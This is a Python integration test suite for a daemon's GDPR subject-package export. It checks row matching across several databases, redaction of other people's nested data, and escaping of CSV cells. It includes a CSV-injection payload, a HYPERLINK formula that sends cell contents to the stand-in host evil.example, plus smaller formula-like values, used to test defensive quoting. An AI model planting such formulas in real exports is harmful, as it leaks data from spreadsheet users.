"""GDPR subject packages for an e-mail subject, through a real daemon and the CLI, read
back unencrypted: which rows a package holds (the id as pasted with spaces around it,
the address in any case: every one of the person's rows, never another's), that other
people's values in nested columns (a struct, a list of structs) are redacted while the
subject's own top-level columns (the part's subject column included) are kept, that a
package of no records says so, and that its CSV cells cannot run as spreadsheet
formulas (an ordinary CSV export keeps them as they are)."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import duckdb
import polars as pl
import psycopg
import pytest

from tests.daemon import Daemon, run_cli
from tests.integration.helpers import manifest_path
from tests.servers.postgres import PostgresServer

pytestmark = pytest.mark.integration

SUBJECT = "alice@example.com"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"open")'
REFEREE = {"name": "Carol Other", "email": "carol@other.example", "phone": "+44 20 7946 0958"}
CONTACT = {"name": "Dave Third", "email": "dave@third.example", "mobile": "+44 20 7946 0111"}
GDPR = {
    "controller": "Ctl Ltd",
    "contact": "dpo@ctl.example",
    "purposes": "p",
    "retention": "r",
    "recipients": "x",
}


class World:
    """People (Parquet, nested columns of other people), accounts (JSON lines), tickets
    (SQLite) and messages (PostgreSQL), each naming the subject by e-mail address in
    several spellings, and a daemon naming them."""

    def __init__(self, root: Path, postgres: PostgresServer) -> None:
        sources = root / "daemon" / "sources"
        (sources / "people").mkdir(parents=True)
        emails = [
            SUBJECT,
            "Alice@Example.com",
            "malice@example.com",
            "bob@example.com",
            "\uff41lice@example.com",  # a full-width "a": another address
        ]
        pl.DataFrame(
            {
                "row": list(range(1, len(emails) + 1)),
                "email": emails,
                "body": [FORMULA, "@SUM(A1:A2)", "malice's", "bob's", "full-width"],
                "referee": [REFEREE] * len(emails),
                "contacts": [[CONTACT]] * len(emails),
            }
        ).write_parquet(sources / "people" / "p.parquet")
        with open(sources / "acc.jsonl", "w") as f:
            for i, owner in enumerate([SUBJECT, "bob@example.com", "ALICE@EXAMPLE.COM"]):
                f.write(json.dumps({"id": i, "owner": owner, "note": f"-{i}+cmd"}) + "\n")
        with sqlite3.connect(sources / "t.db") as db:
            db.execute("CREATE TABLE tickets (id INTEGER PRIMARY KEY, email TEXT, body TEXT)")
            db.executemany(
                "INSERT INTO tickets VALUES (?, ?, ?)",
                [(1, SUBJECT, "t1"), (2, "ALICE@example.com", "t2"), (3, "bob@example.com", "t3")],
            )
        # DuckDB's lower() folds every letter, the pipeline ASCII letters only.
        with duckdb.connect(str(sources / "d.duckdb")) as duck:
            duck.execute("CREATE TABLE t (id INT PRIMARY KEY, email VARCHAR)")
            duck.executemany(
                "INSERT INTO t VALUES (?, ?)",
                [
                    (1, "\u00c4rger@example.com"),  # "Ärger"
                    (2, "\u00c4RGER@EXAMPLE.COM"),
                    (3, "\u00e4rger@example.com"),  # "ärger": another address
                    (4, "\u212aate@example.com"),  # a Kelvin sign, not "K"
                    (5, "KATE@example.com"),
                ],
            )
        # Opaque account ids: the subject's own, and other people's in nested fields.
        pl.DataFrame(
            {
                "account": ["acct-1001", "acct-2002"],
                "referred_by": [{"account": "acct-2002", "nickname": "bobby"}] * 2,
                "friends": [[{"account": "acct-3003"}]] * 2,
            }
        ).write_parquet(sources / "referrals.parquet")
        database = postgres.new_database()
        with psycopg.connect(database, autocommit=True) as con:
            con.execute("CREATE TABLE messages (id int8 PRIMARY KEY, sender text, body text)")
            with con.cursor() as cursor:
                cursor.executemany(
                    "INSERT INTO messages VALUES (%s, %s, %s)",
                    [(1, "aLiCe@example.COM", "m1"), (2, "bob@example.com", "m2")],
                )
        self.daemon = Daemon(
            root=root / "daemon",
            settings={
                "gdpr": GDPR,
                "templates": {"unsealed": {"description": "none"}},
                "source_profiles": {
                    "pg": {
                        "kind": "postgresql",
                        "hosts": [f"127.0.0.1:{postgres.port}"],
                        "user": postgres.user,
                    }
                },
                "sources": {
                    "people": {
                        "uri": str(sources / "people" / "*.parquet"),
                        "subject_column": "email",
                        "description": "People",
                    },
                    "accounts": {
                        "uri": str(sources / "acc.jsonl"),
                        "subject_column": "owner",
                        "description": "Accounts",
                    },
                    "duck": {
                        "uri": f"duckdb://{sources / 'd.duckdb'}",
                        "table": "t",
                        "subject_column": "email",
                        "description": "DuckDB",
                    },
                    "referrals": {
                        "uri": str(sources / "referrals.parquet"),
                        "subject_column": "account",
                        "description": "Referrals",
                    },
                    "tickets": {
                        "uri": f"sqlite://{sources / 't.db'}",
                        "table": "tickets",
                        "subject_column": "email",
                        "description": "Tickets",
                    },
                    "messages": {
                        "uri": f"postgresql://127.0.0.1:{postgres.port}/"
                        + database.rsplit("/", 1)[1],
                        "profile": "pg",
                        "table": "public.messages",
                        "subject_column": "sender",
                        "description": "Messages",
                    },
                },
            },
        )
        self.daemon.start(timeout=90)

    def package(self, subject: str, *args: str) -> tuple[dict[str, Any], str, Path]:
        """`sluice gdpr package` unencrypted, waited for: (the export, stderr, its folder)."""
        result = run_cli(
            self.daemon, "gdpr", "package", "--subject", subject, "--to",
            str(self.daemon.exports), "--template", "unsealed", "--compression", "none",
            *args, "--wait", "--json",
        )  # fmt: skip
        assert result.returncode == 0, result.stderr + self.daemon.log_tail()
        finished: dict[str, Any] = json.loads(result.stdout)
        return finished, result.stderr, manifest_path(finished["manifest_uri"]).parent


@pytest.fixture(scope="module")
def world(
    tmp_path_factory: pytest.TempPathFactory, postgres_server: PostgresServer
) -> Iterator[World]:
    made = World(tmp_path_factory.mktemp("subject-rows"), postgres_server)
    yield made
    made.daemon.stop(timeout=30)


def _json_records(folder: Path, source: str) -> list[dict[str, Any]]:
    records: list[dict[str, Any]] = []
    for path in sorted(folder.glob(f"part-*.{source}.json")):
        records += json.loads(path.read_text())["data"]
    return records


def _csv_rows(folder: Path, source: str) -> list[dict[str, str]]:
    rows: list[dict[str, str]] = []
    for path in sorted(folder.glob(f"part-*.{source}.csv")):
        rows += csv.DictReader(io.StringIO(path.read_text()))
    return rows


def test_other_peoples_values_in_nested_columns_are_redacted_and_the_subjects_kept(
    world: World,
) -> None:
    _, _, folder = world.package(SUBJECT, "--sources", "people")
    records = _json_records(folder, "people")
    assert records
    for record in records:
        assert record["referee"] == {
            "name": "[REDACTED]",
            "email": "[EMAIL]",
            "phone": "[PHONE]",
        }
        assert record["contacts"] == [
            {"name": "[REDACTED]", "email": "[EMAIL]", "mobile": "[PHONE]"}
        ]
    assert [r["email"] for r in records] == [SUBJECT, "Alice@Example.com"]
    text = "\n".join(p.read_text() for p in folder.glob("part-*"))
    for value in (*REFEREE.values(), *CONTACT.values()):
        assert value not in text
    csv_rows = _csv_rows(folder, "people")
    assert [r["email"] for r in csv_rows] == [SUBJECT, "Alice@Example.com"]
    assert json.loads(csv_rows[0]["referee"])["email"] == "[EMAIL]"


def test_an_email_subject_finds_its_rows_in_any_case_in_every_source(world: World) -> None:
    finished, _, folder = world.package(SUBJECT)
    assert [r["email"] for r in _json_records(folder, "people")] == [
        SUBJECT,
        "Alice@Example.com",
    ]
    assert [r["id"] for r in _json_records(folder, "accounts")] == [0, 2]
    assert [r["id"] for r in _json_records(folder, "tickets")] == [1, 2]
    assert [r["id"] for r in _json_records(folder, "messages")] == [1]
    assert finished["records"] == 2 * (2 + 2 + 2 + 1)
    manifest = json.loads((folder / "manifest.json").read_text())
    assert manifest["subject_package"]["subject_id"] == SUBJECT
    readme = (folder / "README.html").read_text()
    assert "in any case" in readme


def test_duckdb_finds_an_email_subject_with_a_capital_beyond_ascii(world: World) -> None:
    """DuckDB's lower() folds `Ä` too: the pushed-down filter must still keep every row
    the pipeline matches (ASCII letters in either case), and only those reach the files."""
    _, stderr, folder = world.package("\u00c4rger@example.com", "--sources", "duck")
    assert "warning" not in stderr
    assert [r["id"] for r in _json_records(folder, "duck")] == [1, 2]
    assert [r["id"] for r in _csv_rows(folder, "duck")] == ["1", "2"]
    _, _, folder = world.package("kate@example.com", "--sources", "duck")
    assert [r["email"] for r in _json_records(folder, "duck")] == ["KATE@example.com"]


def test_other_peoples_ids_in_nested_fields_named_like_the_subject_column_are_redacted(
    world: World,
) -> None:
    _, _, folder = world.package("acct-1001", "--sources", "referrals")
    assert _json_records(folder, "referrals") == [
        {
            "account": "acct-1001",
            "referred_by": {"account": "[REDACTED]", "nickname": "bobby"},
            "friends": [{"account": "[REDACTED]"}],
        }
    ]
    text = "\n".join(p.read_text() for p in folder.glob("part-*"))
    assert "acct-2002" not in text
    assert "acct-3003" not in text


def test_a_subject_id_pasted_with_spaces_around_it_finds_the_same_rows(world: World) -> None:
    finished, stderr, folder = world.package(f" {SUBJECT}\t")
    assert [r["id"] for r in _json_records(folder, "tickets")] == [1, 2]
    assert [r["row"] for r in _json_records(folder, "people")] == [1, 2]
    assert finished["records"] == 2 * (2 + 2 + 2 + 1)
    manifest = json.loads((folder / "manifest.json").read_text())
    assert manifest["subject_package"]["subject_id"] == SUBJECT
    assert "warning" not in stderr


def test_each_parts_subject_column_is_the_subjects_own_and_kept(world: World) -> None:
    _, _, folder = world.package(SUBJECT, "--sources", "accounts,messages")
    assert [r["owner"] for r in _json_records(folder, "accounts")] == [
        SUBJECT,
        "ALICE@EXAMPLE.COM",
    ]
    assert [r["owner"] for r in _csv_rows(folder, "accounts")] == [SUBJECT, "ALICE@EXAMPLE.COM"]
    assert [r["sender"] for r in _json_records(folder, "messages")] == ["aLiCe@example.COM"]


def test_a_package_of_no_records_says_so(world: World) -> None:
    finished, stderr, folder = world.package("nobody@example.com")
    assert finished["state"] == "succeeded"
    assert finished["records"] == 0
    assert stderr.strip() == (
        f"warning: package {finished['id']} holds no records: no row of its sources has "
        "the subject id in its subject_column"
    )
    shown = run_cli(world.daemon, "export", "get", finished["id"])
    assert shown.returncode == 0, shown.stderr
    assert "no records: no row of its sources has the subject id" in shown.stdout
    assert not list(folder.glob("part-*"))


def test_package_csv_cells_read_as_formulas_are_quoted_and_json_keeps_them(world: World) -> None:
    _, _, folder = world.package(SUBJECT, "--sources", "people,accounts")
    people = _csv_rows(folder, "people")
    assert [r["body"] for r in people] == [f"'{FORMULA}", "'@SUM(A1:A2)"]
    assert [r["note"] for r in _csv_rows(folder, "accounts")] == ["'-0+cmd", "'-2+cmd"]
    # Numbers stay numbers, and the JSON files keep the text as it is.
    assert [r["row"] for r in people] == ["1", "2"]
    assert [r["body"] for r in _json_records(folder, "people")] == [FORMULA, "@SUM(A1:A2)"]
    readme = (folder / "README.html").read_text()
    assert "starts with an apostrophe" in readme
    # An ordinary CSV export writes the source's text as it is.
    plain = run_cli(
        world.daemon, "export", "create", "--source-name", "people", "--to",
        str(world.daemon.exports), "--dataset", "plain", "--format", "csv",
        "--compression", "none", "--wait", "--json",
    )  # fmt: skip
    assert plain.returncode == 0, plain.stderr
    plain_folder = manifest_path(json.loads(plain.stdout)["manifest_uri"]).parent
    rows = [
        r
        for p in plain_folder.glob("part-*.csv")
        for r in csv.DictReader(io.StringIO(p.read_text()))
    ]
    assert FORMULA in [r["body"] for r in rows]


def test_a_named_source_says_the_format_its_file_names_do_not(tmp_path: Path) -> None:
    """A file without an extension: with `format` in its `[sources.NAME]` it is packaged;
    without, the package is refused as the server's fault, naming that entry."""
    sources = tmp_path / "daemon" / "sources"
    sources.mkdir(parents=True)
    lines = "".join(json.dumps({"id": i, "owner": o}) + "\n" for i, o in enumerate([SUBJECT, "x"]))
    (sources / "export-2024").write_text(lines)
    daemon = Daemon(
        root=tmp_path / "daemon",
        settings={
            "gdpr": GDPR,
            "templates": {"unsealed": {"description": "none"}},
            "sources": {
                "said": {
                    "uri": str(sources / "export-2024"),
                    "format": "ndjson",
                    "subject_column": "owner",
                },
                "unsaid": {"uri": str(sources / "export-2024"), "subject_column": "owner"},
            },
        },
    )
    daemon.start(timeout=90)
    try:
        common = ["gdpr", "package", "--subject", SUBJECT, "--to", str(daemon.exports)]
        unsealed = ["--template", "unsealed", "--compression", "none", "--wait", "--json"]
        said = run_cli(daemon, *common, "--sources", "said", *unsealed)
        assert said.returncode == 0, said.stderr + daemon.log_tail()
        folder = manifest_path(json.loads(said.stdout)["manifest_uri"]).parent
        assert _json_records(folder, "said") == [{"id": 0, "owner": SUBJECT}]
        unsaid = run_cli(daemon, *common, *unsealed)
        assert unsaid.returncode != 0
        assert unsaid.stderr.strip() == (
            "sluice: error: FAILED_PRECONDITION: named source 'unsaid' cannot be read: its "
            "format is not known from its file names or does not fit it; set format in the "
            "server config's [sources.unsaid] (the server log says why)"
        )
    finally:
        daemon.stop(timeout=30)
